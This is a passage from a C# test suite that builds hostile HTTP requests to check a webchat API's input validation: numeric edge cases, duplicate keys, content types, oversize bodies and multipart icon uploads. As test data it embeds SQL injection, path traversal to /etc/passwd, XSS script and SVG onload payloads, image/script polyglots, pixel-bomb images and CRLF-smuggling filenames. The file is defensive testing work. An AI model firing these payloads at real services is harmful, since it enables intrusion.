            cases.Add(JsonCase(Injection, Target.Put, $"{payload} in allowedDomains[0]", $"{{\"allowedDomains\":[{Lit(payload)}]}}", 400));
        }

        foreach (var field in ReadOnlyFields)
        {
            cases.Add(JsonCase(Injection, Target.Put, $"{InjectionPayloads[0]} in read-only {field}", WithField(Target.Put, field, Lit(InjectionPayloads[0])), 400));
        }

        foreach (var payload in structuredPayloads.Take(2))
        {
            cases.Add(JsonCase(Injection, Target.Token, $"{payload} as a scope", WithField(Target.Token, "scopes", $"[{Lit(payload)}]"), 400));
            cases.Add(JsonCase(Injection, Target.Token, $"{payload} as expiresAt", WithField(Target.Token, "expiresAt", Lit(payload)), 400));
        }
    }

    private static void AddRouteIds(List<HostileCase> cases)
    {
        (string Name, string Id)[] ids =
        [
            ("SQL in the id", "'%20OR%201=1--"),
            ("encoded path traversal", "..%2F..%2Fapi%2Ftokens"),
            ("25 hex characters", FunctionalTest.MissingId + "0"),
            ("23 hex characters", FunctionalTest.MissingId[1..]),
            ("upper-case hex", "65A0E0E0E0E0E0E0E0E0E0E0"),
            ("full-width digits", "%EF%BC%96%EF%BC%95a0e0e0e0e0e0e0e0e0e0e0"),
            ("script tag", "%3Cscript%3E"),
        ];
        foreach (var target in new[] { Target.Put, Target.Patch, Target.Icon })
        {
            foreach (var (name, id) in ids)
            {
                cases.Add(new HostileCase
                {
                    Category = RouteIds,
                    Target = target,
                    Description = name,
                    RouteId = id,
                    Content = target == Target.Icon ? () => SharedWorld.IconContent(Gif) : Bytes(Utf8("""{"name":"x"}"""), DefaultContentType(target)),
                    Status = 400,
                });
            }
        }
    }

    private static void AddNumbers(List<HostileCase> cases)
    {
        (string Literal, int Status, string? Stored)[] offsets =
        [
            ("-1", 400, null), ("501", 400, null), ("500", 200, "500"), ("0", 200, "0"), ("-0", 200, "0"), ("1e2", 400, null),
            ("1E+400", 400, null), ("-1E+400", 400, null), ("1e-400", 400, null), ("0.0", 400, null), ("1.0", 400, null),
            ("24.00", 400, null), ("2147483648", 400, null), ("9223372036854775808", 400, null),
            ("-9223372036854775809", 400, null), ("1e308", 400, null),
        ];
        foreach (var field in new[] { "offsetX", "offsetY" })
        {
            foreach (var (literal, status, stored) in offsets)
            {
                cases.Add(JsonCase(Numbers, Target.Put, $"{field} = {literal}", WithField(Target.Put, field, literal), status, stored is null ? null : field, stored));
            }
        }

        (string Literal, int Status, string? Stored)[] zIndexes =
        [
            ("-1", 400, null), ("2147483648", 400, null), ("2147483647", 200, "2147483647"), ("-0", 200, "0"), ("1e2", 400, null),
            ("1E+400", 400, null), ("0.0", 400, null), ("4294967296", 400, null), ("1e9", 400, null), ("-2147483649", 400, null),
        ];
        foreach (var (literal, status, stored) in zIndexes)
        {
            cases.Add(JsonCase(Numbers, Target.Put, $"zIndex = {literal}", WithField(Target.Put, "zIndex", literal), status, stored is null ? null : "zIndex", stored));
        }

        cases.Add(JsonCase(Numbers, Target.Create, "offsetX = 1E+400", WithField(Target.Create, "offsetX", "1E+400"), 400));
        cases.Add(JsonCase(Numbers, Target.Create, "zIndex = -0", WithField(Target.Create, "zIndex", "-0"), 201, "zIndex", "0"));
        cases.Add(JsonCase(Numbers, Target.Patch, "offsetY = 1e2", WithField(Target.Patch, "offsetY", "1e2"), 400));
        cases.Add(JsonCase(Numbers, Target.Patch, "offsetY = -0", WithField(Target.Patch, "offsetY", "-0"), 200, "offsetY", "0"));
        cases.Add(JsonCase(Numbers, Target.Token, "expiresAt as Unix seconds", WithField(Target.Token, "expiresAt", "1893456000"), 400));
        cases.Add(JsonCase(Numbers, Target.Token, "expiresAt = 1.8E+9", WithField(Target.Token, "expiresAt", "1.8E+9"), 400));
        cases.Add(JsonCase(Numbers, Target.Token, "expiresAt in year 10000", WithField(Target.Token, "expiresAt", "\"10000-01-01T00:00:00Z\""), 400));
        cases.Add(JsonCase(Numbers, Target.Token, "expiresAt at 9999-12-31 with offset -14:00 overflows UTC", WithField(Target.Token, "expiresAt", "\"9999-12-31T23:59:59-14:00\""), 400));
        cases.Add(JsonCase(Numbers, Target.Token, "expiresAt at 0001-01-01 with offset +14:00 underflows UTC", WithField(Target.Token, "expiresAt", "\"0001-01-01T00:00:00+14:00\""), 400));
        // The largest date is read, then refused: a token lives at most two years (issue 18).
        cases.Add(JsonCase(Numbers, Target.Token, "expiresAt far future 9999-12-31 is read and refused as too far ahead", WithField(Target.Token, "expiresAt", "\"9999-12-31T23:59:59Z\""), 400));
    }

    private static void AddDuplicateKeys(List<HostileCase> cases)
    {
        (string Name, string Body)[] bodies =
        [
            ("name twice with different values", """{"name":"a","name":"b"}"""),
            ("name twice with the same value", """{"name":"a","name":"a"}"""),
            ("name twice, once escaped", """{"name":"a","n\u0061me":"b"}"""),
            ("isEnabled twice", """{"isEnabled":true,"isEnabled":false}"""),
            ("allowedDomains twice", """{"allowedDomains":[],"allowedDomains":["https://a.example"]}"""),
            ("_id twice", $$"""{"_id":"{{FunctionalTest.MissingId}}","_id":"{{FunctionalTest.MissingId}}"}"""),
            ("__proto__ twice", """{"__proto__":1,"__proto__":2}"""),
            ("unknown property twice", """{"unknown":1,"unknown":2}"""),
            ("duplicate inside a nested object", """{"description":{"a":1,"a":2}}"""),
            ("offsetX as 1 and 1.0", """{"offsetX":1,"offsetX":1.0}"""),
            ("name 100 times", "{" + string.Join(',', Enumerable.Range(0, 100).Select(i => $"\"name\":\"n{i}\"")) + "}"),
        ];
        foreach (var target in WebchatTargets)
        {
            foreach (var (name, body) in bodies)
            {
                cases.Add(JsonCase(DuplicateKeys, target, name, body, 400));
            }
        }

        cases.Add(JsonCase(DuplicateKeys, Target.Token, "name twice", """{"name":"a","name":"b","scopes":["webchats:read"]}""", 400));
        cases.Add(JsonCase(DuplicateKeys, Target.Token, "name twice, once escaped", """{"name":"a","n\u0061me":"b","scopes":["webchats:read"]}""", 400));
        cases.Add(JsonCase(DuplicateKeys, Target.Token, "scopes twice", """{"name":"a","scopes":["webchats:read"],"scopes":["webchats:write"]}""", 400));
        cases.Add(JsonCase(DuplicateKeys, Target.Token, "expiresAt twice", """{"name":"a","scopes":["webchats:read"],"expiresAt":"2030-01-01T00:00:00Z","expiresAt":null}""", 400));
    }

    private static void AddContentTypes(List<HostileCase> cases)
    {
        string[] refused =
        [
            "text/plain", "text/json", "text/html", "application/xml", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x", "application/json-patch+json", "application/problem+json",
            "application/vnd.api+json", "application/x-json", "application/jsonx", "*/*", "application/*",
            "application/json, text/plain", "json", "application/json; charset=iso-8859-1", "application/json; charset=bogus",
            "application/json; charset=utf-8; charset=iso-8859-1",
        ];
        foreach (var target in JsonTargets)
        {
            var body = Utf8(ValidBody(target));
            cases.Add(Case(ContentTypes, target, "no Content-Type", body, 415, contentType: null));
            foreach (var contentType in refused)
            {
                cases.Add(Case(ContentTypes, target, $"Content-Type {contentType}", body, 415, contentType: contentType));
            }

            if (target != Target.Patch)
            {
                cases.Add(Case(ContentTypes, target, "Content-Type application/merge-patch+json", body, 415, contentType: MergePatch));
            }

            cases.Add(Case(ContentTypes, target, "UTF-16 body declared charset=utf-16", Encoding.Unicode.GetBytes(ValidBody(target)), 415, contentType: "application/json; charset=utf-16"));

            // Every spelling of UTF-8 JSON is fine.
            string[] accepted = target == Target.Patch
                ? ["application/merge-patch+json; charset=utf-8", "application/json; charset=utf-8", "application/json;charset=UTF-8", "application/json; charset=\"utf-8\"", "APPLICATION/MERGE-PATCH+JSON"]
                : ["application/json; charset=utf-8", "application/json;charset=UTF-8", "application/json; charset=\"utf-8\"", "APPLICATION/JSON"];
            foreach (var contentType in accepted)
            {
                var (field, stored) = AcceptedField(target, "Charset " + contentType.Length);
                cases.Add(Case(ContentTypes, target, $"Content-Type {contentType} is fine", Utf8(AcceptedBody(target, stored)), SuccessOf(target), contentType, field, stored));
            }
        }

        cases.Add(Case(ContentTypes, Target.Icon, "Content-Type application/json", Utf8("{}"), 415, JsonType));
        cases.Add(Case(ContentTypes, Target.Icon, "Content-Type image/png with the raw image", Png, 415, "image/png"));
        cases.Add(Case(ContentTypes, Target.Icon, "Content-Type application/octet-stream", Png, 415, "application/octet-stream"));
        cases.Add(Case(ContentTypes, Target.Icon, "Content-Type application/x-www-form-urlencoded", Utf8("file=abc"), 415, "application/x-www-form-urlencoded"));
        cases.Add(Case(ContentTypes, Target.Icon, "Content-Type multipart/mixed", MultipartBody("b", Part("file", "icon.png", "image/png", Png)), 415, "multipart/mixed; boundary=b"));
        cases.Add(Case(ContentTypes, Target.Icon, "no Content-Type", MultipartBody("b", Part("file", "icon.png", "image/png", Png)), 415, null));
    }

    private static void AddEmptyBodies(List<HostileCase> cases)
    {
        foreach (var target in JsonTargets)
        {
            cases.Add(new HostileCase { Category = EmptyBodies, Target = target, Description = "no body and no Content-Type", Content = () => null, Status = 415 });
            cases.Add(Case(EmptyBodies, target, "empty body", [], 400));
            cases.Add(Case(EmptyBodies, target, "whitespace only", Utf8(" \r\n\t "), 400));
            var emptyObject = target is Target.Put or Target.Patch ? 200 : 400;
            cases.Add(JsonCase(EmptyBodies, target, emptyObject == 200 ? "empty object is a no-op" : "empty object lacks required fields", "{}", emptyObject));
        }

        cases.Add(new HostileCase { Category = EmptyBodies, Target = Target.Icon, Description = "no body and no Content-Type", Content = () => null, Status = 415 });
        cases.Add(Case(EmptyBodies, Target.Icon, "empty body with a boundary", [], 400, "multipart/form-data; boundary=b"));
        cases.Add(Case(EmptyBodies, Target.Icon, "closing boundary only", Utf8("--b--\r\n"), 400, "multipart/form-data; boundary=b"));
    }

    private static void AddOversize(List<HostileCase> cases)
    {
        foreach (var target in JsonTargets)
        {
            var body = ValidBody(target);
            cases.Add(Case(Oversize, target, "64 KiB + 1 byte of valid JSON", Utf8(Pad(body, MaxJson + 1)), 413));
            cases.Add(Case(Oversize, target, "1 MiB of valid JSON", Utf8(Pad(body, 1024 * 1024)), 413));
            cases.Add(Case(Oversize, target, "3 MiB of valid JSON", Utf8(Pad(body, 3 * 1024 * 1024)), 413));
            cases.Add(new HostileCase { Category = Oversize, Target = target, Description = "100 KiB chunked, without Content-Length", Content = Chunked(Utf8(Pad(body, 100 * 1024)), DefaultContentType(target)), Status = 413 });
            cases.Add(JsonCase(Oversize, target, "one string of 70 KiB", WithField(target, target == Target.Token ? "name" : "description", Lit(new string('x', 70 * 1024))), 413));

            // Exactly the limit is still fine.
            var (field, stored) = AcceptedField(target, "Exactly 64 KiB");
            cases.Add(Case(Oversize, target, "exactly 64 KiB is fine", Utf8(Pad(AcceptedBody(target, stored), MaxJson)), SuccessOf(target), DefaultContentType(target), field, stored));
        }

        var bigPng = new byte[(1024 * 1024) + 1];
        Png.CopyTo(bigPng, 0);
        var hugePng = new byte[3 * 1024 * 1024];
        Png.CopyTo(hugePng, 0);
        cases.Add(new HostileCase { Category = Oversize, Target = Target.Icon, Description = "file of 1 MiB + 1 byte", Content = () => SharedWorld.IconContent(bigPng), Status = 413 });
        cases.Add(new HostileCase { Category = Oversize, Target = Target.Icon, Description = "file of 3 MiB", Content = () => SharedWorld.IconContent(hugePng), Status = 413 });

        // Not here: a multipart body over 1 MiB + 16 KiB made of parts each under the part limit. Only
        // [RequestSizeLimit] caps the whole body, and the in-memory TestServer does not implement
        // IHttpMaxRequestBodySizeFeature (it logs so), so that row cannot be tested here; see docs/reliability.md.
        cases.Add(new HostileCase { Category = Oversize, Target = Target.Icon, Description = "2 MiB chunked, without Content-Length", Content = Chunked(MultipartBody("b", Part("file", "icon.png", "image/png", hugePng[..(2 * 1024 * 1024)])), "multipart/form-data; boundary=b"), Status = 413 });
    }

    private static void AddMultipart(List<HostileCase> cases)
    {
        const string FormB = "multipart/form-data; boundary=b";
        var filePart = Part("file", "icon.png", "image/png", Png);
        (string Name, byte[] Body, string? ContentType, int Status)[] rows =
        [
            ("no boundary parameter", MultipartBody("b", filePart), "multipart/form-data", 400),
            ("boundary in the header differs from the body", MultipartBody("b", filePart), "multipart/form-data; boundary=other", 400),
            ("empty boundary", MultipartBody("b", filePart), "multipart/form-data; boundary=\"\"", 400),
            ("boundary of 200 characters", MultipartBody(new string('b', 200), filePart), "multipart/form-data; boundary=" + new string('b', 200), 400),
            ("missing file field", MultipartBody("b", Part("other", "icon.png", "image/png", Png)), FormB, 400),
            ("two files in the field file", MultipartBody("b", filePart, Part("file", "second.gif", "image/gif", Gif)), FormB, 400),
            ("non-file field named file", MultipartBody("b", Part("file", null, null, Png)), FormB, 400),
            ("non-file field named file holding text", MultipartBody("b", Part("file", null, null, Utf8("not a file"))), FormB, 400),
            ("zero-byte file", MultipartBody("b", Part("file", "icon.png", "image/png", [])), FormB, 400),
            ("declared image/png holding HTML", MultipartBody("b", Part("file", "icon.png", "image/png", Utf8("<!DOCTYPE html><html><script>alert(1)</script></html>"))), FormB, 400),
            ("declared image/png holding SVG", MultipartBody("b", Part("file", "icon.png", "image/png", Utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"))), FormB, 400),
            ("PNG of 15000×15000 pixels", MultipartBody("b", Part("file", "icon.png", "image/png", global::Webchats.Tests.Shared.IconSamples.Png(15000, 15000))), FormB, 400),
            ("PNG of 0×0 pixels", MultipartBody("b", Part("file", "icon.png", "image/png", global::Webchats.Tests.Shared.IconSamples.Png(0, 0))), FormB, 400),
            ("PNG of 65535×65535 pixels", MultipartBody("b", Part("file", "icon.png", "image/png", global::Webchats.Tests.Shared.IconSamples.Png(65535, 65535))), FormB, 400),
            ("PNG with a ZIP after IEND", MultipartBody("b", Part("file", "icon.png", "image/png", global::Webchats.Tests.Shared.IconSamples.Png(after: global::Webchats.Tests.Shared.IconSamples.ZipTail))), FormB, 400),
            ("GIF89a/*…*/=alert(1); polyglot", MultipartBody("b", Part("file", "icon.gif", "image/gif", global::Webchats.Tests.Shared.IconSamples.GifScriptPolyglot())), FormB, 400),
            ("JPEG of 15000×15000 pixels", MultipartBody("b", Part("file", "icon.jpg", "image/jpeg", global::Webchats.Tests.Shared.IconSamples.Jpeg(15000, 15000))), FormB, 400),
            ("truncated GIF", MultipartBody("b", Part("file", "icon.gif", "image/gif", Gif[..^1])), FormB, 400),
            ("ICO holding a PNG of 15000×15000 pixels", MultipartBody("b", Part("file", "icon.ico", "image/x-icon", global::Webchats.Tests.Shared.IconSamples.Ico(global::Webchats.Tests.Shared.IconSamples.Png(15000, 15000)))), FormB, 400),
            ("PNG followed by HTML (polyglot)", MultipartBody("b", Part("file", "icon.png", "image/png", [.. Png, .. "<html><script>alert(1)</script></html>"u8])), FormB, 400),
            ("part headers of 20 KiB", MultipartBody("b", Part("file", "icon.png", "image/png", Png, "X-Padding: " + new string('p', 20 * 1024))), FormB, 400),
            ("300 part headers", MultipartBody("b", Part("file", "icon.png", "image/png", Png, string.Join("\r\n", Enumerable.Range(0, 300).Select(i => $"X-H{i}: v")))), FormB, 400),
            ("truncated before the closing boundary", MultipartBody("b", filePart)[..^8], FormB, 400),
            ("truncated in the middle of the file", MultipartBody("b", filePart)[..^30], FormB, 400),
            ("truncated in the part headers", Utf8("--b\r\nContent-Disposition: form-data; name=\"file\"; filena"), FormB, 400),
            ("part without Content-Disposition", Concat(Utf8("--b\r\nContent-Type: image/png\r\n\r\n"), Png, Utf8("\r\n--b--\r\n")), FormB, 400),
            ("Content-Disposition without a name", Concat(Utf8("--b\r\nContent-Disposition: form-data; filename=\"icon.png\"\r\nContent-Type: image/png\r\n\r\n"), Png, Utf8("\r\n--b--\r\n")), FormB, 400),
            ("nested multipart/mixed in the file part", MultipartBody("b", Part("file", "icon.png", "multipart/mixed; boundary=c", MultipartBody("c", filePart))), FormB, 400),
            ("base64 transfer encoding of a PNG", MultipartBody("b", Part("file", "icon.png", "image/png", Utf8(Convert.ToBase64String(Png)), "Content-Transfer-Encoding: base64")), FormB, 400),
            ("2000 form fields", MultipartBody("b", [.. Enumerable.Range(0, 2000).Select(i => Part($"f{i}", null, null, Utf8("v"))), filePart]), FormB, 400),
            ("LF line endings instead of CRLF", Concat(Utf8("--b\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\nContent-Type: image/png\n\n"), Png, Utf8("\n--b--\n")), FormB, 400),
            ("invalid UTF-8 in the field name", Concat(Utf8("--b\r\nContent-Disposition: form-data; name=\"fi"), [0xFF], Utf8("le\"; filename=\"icon.png\"\r\nContent-Type: image/png\r\n\r\n"), Png, Utf8("\r\n--b--\r\n")), FormB, 400),
        ];
        foreach (var (name, body, contentType, status) in rows)
        {
            cases.Add(Case(Multipart, Target.Icon, name, body, status, contentType));
        }

        // Names and declared types are never trusted, so these are just images.
        (string Name, byte[] Body)[] accepted =
        [
            ("path traversal in the file name", MultipartBody("b", Part("file", "../../../../etc/passwd.png", "image/png", Gif))),
            ("script in the file name", MultipartBody("b", Part("file", "<script>alert(1)</script>.gif", "image/gif", Gif))),
            ("declared text/html holding a GIF", MultipartBody("b", Part("file", "icon.html", "text/html", Gif))),
            ("encoded NUL and CRLF in filename*", MultipartBody("b", Part("file", null, "image/gif", Gif, "Content-Disposition: form-data; name=\"file\"; filename*=UTF-8''%00%0D%0Aevil.gif"))),
            ("preamble and epilogue around the part", Concat(Utf8("preamble garbage\r\n"), MultipartBody("b", Part("file", "icon.gif", "image/gif", Gif)), Utf8("epilogue garbage"))),
            ("quoted boundary", MultipartBody("b b", Part("file", "icon.gif", "image/gif", Gif))),
            ("an extra field with a name of 3000 characters", MultipartBody("b", Part(new string('f', 3000), null, null, Utf8("v")), Part("file", "icon.gif", "image/gif", Gif))),
        ];
        foreach (var (name, body) in accepted)
        {
            var contentType = name == "quoted boundary" ? "multipart/form-data; boundary=\"b b\"" : FormB;
            cases.Add(Case(Multipart, Target.Icon, name + " is still just an image", body, 200, contentType));
        }
    }

    private static void AddHeaders(List<HostileCase> cases)
    {
        (string Name, string[] Values)[] keys =
        [
            ("blank Idempotency-Key", [" "]),
            ("Idempotency-Key of 256 characters", [new string('k', 256)]),
            ("Idempotency-Key with a space", ["key with space"]),
            ("two Idempotency-Key values", ["a", "b"]),
            ("Idempotency-Key with a DEL character", ["key\u007f"]),
        ];
        foreach (var target in new[] { Target.Create, Target.Icon })
        {
            foreach (var (name, values) in keys)
            {
                cases.Add(new HostileCase
                {
                    Category = Headers,
                    Target = target,
                    Description = name,
                    Content = target == Target.Icon ? () => SharedWorld.IconContent(Gif) : Bytes(Utf8("""{"name":"Keyed"}"""), JsonType),
                    Headers = [.. values.Select(v => KeyValuePair.Create("Idempotency-Key", v))],
                    Status = 400,
                });
            }
        }

        foreach (var target in new[] { Target.Put, Target.Patch })
        {
            foreach (var (name, value) in new[] { ("stale If-Match", "\"00000000\""), ("unparsable If-Match", "garbage"), ("empty If-Match tag", "\"\""), ("weak If-Match", "W/\"00000000\"") })
            {
                cases.Add(new HostileCase
                {
                    Category = Headers,
                    Target = target,
                    Description = name,
                    Content = Bytes(Utf8("""{"name":"Guarded"}"""), DefaultContentType(target)),
                    Headers = [KeyValuePair.Create("If-Match", value)],
                    Status = 412,
                });
            }
        }
    }

    // ---- builders ----

    private static HostileCase JsonCase(string category, Target target, string description, string body, int status, string? field = null, string? stored = null) =>
        Case(category, target, description, Utf8(body), status, DefaultContentType(target), field, stored);

    private static HostileCase Case(string category, Target target, string description, byte[] body, int status) =>
        Case(category, target, description, body, status, DefaultContentType(target));

    private static HostileCase Case(
        string category, Target target, string description, byte[] body, int status, string? contentType, string? field = null, string? stored = null) =>
        new()
        {
            Category = category,
            Target = target,
            Description = Shorten(description),
            Content = Bytes(body, contentType),
            Status = status,
            Field = field,
            StoredJson = stored,
        };

    private static string DefaultContentType(Target target) => target switch
    {
        Target.Patch => MergePatch,
        Target.Icon => "multipart/form-data; boundary=b",
        _ => JsonType,
    };

    private static int SuccessOf(Target target) => target is Target.Create or Target.Token ? 201 : 200;

    /// <summary>The smallest body the target accepts.</summary>
    private static string ValidBody(Target target) => target switch
    {
        Target.Token => """{"name":"content type","scopes":["webchats:read"]}""",
        Target.Create => """{"name":"content type"}""",
        _ => """{"statusText":"content type"}""",
    };

    private static (string Field, string Stored) AcceptedField(Target target, string text) =>
        (target is Target.Create or Target.Token ? "name" : "statusText", Lit(text));

    private static string AcceptedBody(Target target, string storedLiteral) => target switch
    {
        Target.Token => $"{{\"name\":{storedLiteral},\"scopes\":[\"webchats:read\"]}}",
        Target.Create => $"{{\"name\":{storedLiteral}}}",
        _ => $"{{\"statusText\":{storedLiteral}}}",
    };

    /// <summary>A body whose only questionable part is one property: the others are what the target needs.</summary>
    private static string WithField(Target target, string field, string valueJson) => target switch
    {
        Target.Create when field == "name" => $"{{\"name\":{valueJson}}}",
        Target.Create => $"{{\"name\":\"Hostile create\",\"{field}\":{valueJson}}}",
        Target.Token => TokenWith(field, valueJson),
        _ => $"{{\"{field}\":{valueJson}}}",
    };

    private static string TokenWith(string field, string valueJson)
    {
        var properties = new List<(string Name, string Value)> { ("name", "\"hostile token\""), ("scopes", "[\"webchats:read\"]") };
        var index = properties.FindIndex(p => p.Name == field);
        if (index >= 0)
        {
            properties[index] = (field, valueJson);
        }
        else
        {
            properties.Add((field, valueJson));
        }

        return "{" + string.Join(',', properties.Select(p => $"\"{p.Name}\":{p.Value}")) + "}";
    }

    private static string Str(string field, string value) => $"{{\"{field}\":{Lit(value)}}}";

    private static string Origins(int count) =>
        "{\"allowedDomains\":[" + string.Join(',', Enumerable.Range(0, count).Select(i => $"\"https://s{i}.example.com\"")) + "]}";

    /// <summary>A JSON string literal: quotes, backslashes and control characters escaped, everything else as is.</summary>
    private static string Lit(string value)
    {
        var builder = new StringBuilder("\"");
        foreach (var c in value)
        {
            builder.Append(c switch
            {
                '"' => "\\\"",
                '\\' => "\\\\",
                '\n' => "\\n",
                '\r' => "\\r",
                '\t' => "\\t",
                < ' ' => $"\\u{(int)c:x4}",
                _ => c.ToString(),
            });
        }

        return builder.Append('"').ToString();
    }

    private static string Repeat(string text, int count) => string.Concat(Enumerable.Repeat(text, count));

    /// <summary>Pads a JSON object with spaces before its closing brace to exactly <paramref name="bytes"/> bytes.</summary>
    private static string Pad(string json, int bytes)
    {
        var missing = bytes - Encoding.UTF8.GetByteCount(json);
        return json[..^1] + new string(' ', missing) + "}";
    }

    private static string Shorten(string description)
    {
        var oneLine = description.Replace("\n", " ", StringComparison.Ordinal).Replace("\r", " ", StringComparison.Ordinal);
        return oneLine.Length <= 90 ? oneLine : $"{oneLine[..70]}... ({oneLine.Length} chars)";
    }

    private static byte[] Part(string name, string? fileName, string? contentType, byte[] content, string? extraHeaders = null)
    {
        var headers = new StringBuilder();
        if (extraHeaders?.StartsWith("Content-Disposition", StringComparison.Ordinal) != true)
        {
            headers.Append(CultureInfo.InvariantCulture, $"Content-Disposition: form-data; name=\"{name}\"");
            if (fileName is not null)
            {
                headers.Append(CultureInfo.InvariantCulture, $"; filename=\"{fileName}\"");
            }

            headers.Append("\r\n");
        }

        if (extraHeaders is not null)
        {
            headers.Append(extraHeaders).Append("\r\n");
        }

        if (contentType is not null)
        {
            headers.Append(CultureInfo.InvariantCulture, $"Content-Type: {contentType}\r\n");
        }

        return Concat(Utf8(headers.Append("\r\n").ToString()), content);
    }

    private static byte[] MultipartBody(string boundary, params byte[][] parts) =>
        Concat([.. parts.SelectMany(p => new[] { Utf8($"--{boundary}\r\n"), p, Utf8("\r\n") }), Utf8($"--{boundary}--\r\n")]);
}
